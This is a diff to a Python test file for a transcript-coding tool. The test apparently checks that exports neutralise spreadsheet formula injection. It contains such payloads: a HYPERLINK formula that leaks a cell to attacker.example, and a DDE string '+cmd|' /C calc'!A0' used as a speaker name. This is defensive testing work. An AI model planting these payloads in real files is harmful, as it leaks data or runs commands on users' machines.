@@ -28,6 +28,7 @@ from consult_coder.export import ExportOptions, codings_csv, tables_xlsx
 from consult_coder.ingest import import_files
 from consult_coder.model import Coder, Coding, Transcript
 from consult_coder.storage import Project
+from tests.factories import in_session
 
 PAYLOADS = [
     '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
@@ -51,7 +52,7 @@ def _payload_study(project: Project) -> None:
     files = [(f"P0{i}_consultation.vtt", f"WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n<v Interviewer>"
               f"what helped?\n\n00:00:03.000 --> 00:00:04.000\n<v {name}>it was fine\n".encode())
              for i, name in enumerate(["-1+2", "+cmd|' /C calc'!A0", "@SUM(A1)", "=1+1"], start=1)]
-    import_files(project, files, people.encode(), "people.csv", actor="test")
+    in_session(project, import_files, files, people.encode(), "people.csv", actor="test")
     codes = [CodeSpec(id=f"c{i}", name=p.strip() or "x", definition=p) for i, p in enumerate(PAYLOADS)]
     with project.session() as s:
         apply_codebook(s, Codebook(name="evil", codes=codes), "test")
